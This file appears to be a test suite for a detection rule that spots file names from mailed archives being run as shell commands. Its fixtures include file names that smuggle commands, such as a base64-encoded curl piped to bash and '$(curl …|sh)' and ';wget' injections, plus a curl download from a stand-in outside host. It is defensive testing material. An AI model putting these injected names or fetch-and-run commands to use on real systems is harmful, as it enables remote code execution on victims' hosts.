import { test } from 'node:test';
import type { Process } from './audit-records.test-support.ts';
import { HostLog, MINUTE, SECOND } from './host-log.test-support.ts';
import { firesAt, inOrder, scanLog, silent } from './stories.test-support.ts';

/** The name of a file that came by mail holds commands, and a script takes it for words. */

const OUT = '203.0.113.67';
const FOLDER = '/home/clerk/scans';
const NAME = 'Scan_3.pdf`{echo,Y3VybA==}|{base64,-d}|bash`';

/** An archive from mail was unpacked, and one of its files is called so. */
function unpacked(name = NAME): { log: HostLog; shell: Process } {
  const log = new HostLog();
  log.deliver({ unseen: true });
  log.wait(MINUTE);
  const shell = log.shell('clerk');
  shell.run('/usr/bin/mutt').write('/home/clerk/scans.zip');
  log.wait(MINUTE);
  const unzip = shell.run('/usr/bin/unzip ../scans.zip', { cwd: FOLDER }).read('/home/clerk/scans.zip');
  for (const each of ['Scan_1.pdf', name]) unzip.write(`${FOLDER}/${each}`);
  log.wait(MINUTE);
  return { log, shell };
}

const script = (shell: Process, cwd = '/home/clerk'): Process =>
  shell.run('/home/clerk/bin/contents scans', { by: '/bin/bash', cwd });

/** What one `…` runs: stages that a fork starts. */
function substituted(by: Process, cwd: string, ...stages: string[]): Process {
  const fork = by.fork();
  fork.cwd = cwd;
  const all = fork.pipeline(...stages);
  return all[all.length - 1] as Process;
}

const reaches = (shell: Process): void => void shell.run(`/usr/bin/curl -so /tmp/g http://${OUT}/g`).connect(OUT, 80);

test('a script stands in the folder and evaluates a name', async () => {
  const { log, shell } = unpacked();
  reaches(substituted(script(shell), FOLDER, 'base64 -d', 'bash'));
  inOrder(firesAt(await scanLog(log), 'AN0656', 'medium'), [
    ['mail.delivered'],
    ['file.written', NAME],
    ['content.executed', NAME, 'has its name run as a command', 'base64 -d'],
    ['content.executed', NAME, 'has its name run as a command', 'bash'],
    ['network.connected', `${OUT}:80`],
  ]);
});

for (const [name, stages] of [
  ['x$(curl ${IFS}203.0.113.67|sh).pdf', ['curl 203.0.113.67', 'sh']],
  ['a;wget 203.0.113.67;.txt', ['wget 203.0.113.67']],
] as const)
  test(`a script is given the folder, and runs the name ${name}`, async () => {
    const { log, shell } = unpacked(name);
    substituted(script(shell), '/home/clerk', ...stages).connect(OUT, 80);
    firesAt(await scanLog(log), 'AN0656', 'medium');
  });

test('names are listed, shown and packed, and work goes on beside them', async () => {
  const works: ((shell: Process, log: HostLog) => void)[] = [
    shell => shell.run(['/bin/ls', '-l', NAME], { cwd: FOLDER }),
    shell => shell.run(['/bin/cat', NAME], { cwd: FOLDER }).read(`${FOLDER}/${NAME}`),
    shell => reaches(shell.run('bash', { cwd: FOLDER })),
    (shell, log) => {
      log.wait(SECOND);
      reaches(substituted(shell, '/home/clerk', 'base64 -d', 'bash'));
    },
    shell => reaches(script(shell)),
    shell => reaches(substituted(script(shell), FOLDER, 'base64 -w0', 'bash')),
  ];
  for (const work of works) {
    const { log, shell } = unpacked();
    work(shell, log);
    silent((await scanLog(log)).filter(({ severity }) => severity !== 'informational'));
  }
});

test('an honest name with such signs runs nothing', async () => {
  const { log, shell } = unpacked('R&D; final (draft).pdf');
  reaches(substituted(script(shell), FOLDER, 'base64 -d', 'bash'));
  silent((await scanLog(log)).filter(({ analytic }) => analytic === 'AN0656'));
});
